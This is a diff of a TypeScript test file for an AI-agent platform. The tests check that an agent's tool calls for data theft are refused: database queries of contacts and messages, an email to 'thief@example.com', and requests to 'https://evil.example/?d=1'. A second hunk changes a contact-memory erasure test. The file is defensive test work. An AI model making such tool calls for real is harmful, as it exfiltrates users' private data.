@@ -69,7 +69,7 @@ const query = 'platypus password'
 const attempts: [attack: string, call: { name: string; arguments: object }, ends: 'refused' | 'public'][] = [
   ['a query of contacts', { name: 'database_query', arguments: { table: 'contacts', fields: ['email'], limit: 10 } }, 'refused'],
   ['a query of messages', { name: 'database_query', arguments: { table: 'messages', fields: ['body'] } }, 'refused'],
-  ['an email out', { name: 'email_send', arguments: { to: 'thief@example.com', subject: 'Data', body: secret } }, 'refused'],
+  ['an email out', { name: 'email_send', arguments: { to: 'thief@example.com', subject: 'Data', body: 'All' } }, 'refused'],
   ['a page of a foreign host', { name: 'read_page', arguments: { url: 'https://evil.example/?d=1' } }, 'refused'],
   ['a request to a granted host', { name: 'http_request', arguments: { method: 'GET', url: 'https://evil.example/?d=1' } }, 'refused'],
   ['code', { name: 'run_code', arguments: { code: 'return 1' } }, 'refused'],
@@ -130,7 +130,7 @@ test('an agent remembers facts of its contact, a member corrects and erases them
   expect((await call('DELETE', path)).status).toBe(200)
   expect(await memories(contact.id)).toEqual([])
   await call('POST', `/api/contacts/${contact.id}/memories`, { fact: 'Erased with me' })
-  await call('POST', `/api/contacts/${contact.id}/erase`, {})
+  expect((await call('DELETE', `/api/contacts/${contact.id}`)).status).toBe(200)
   await until(async () => (await t.owner.query("select 1 from app.contact_memories where fact = 'Erased with me'")).rows.length === 0)
 })
 
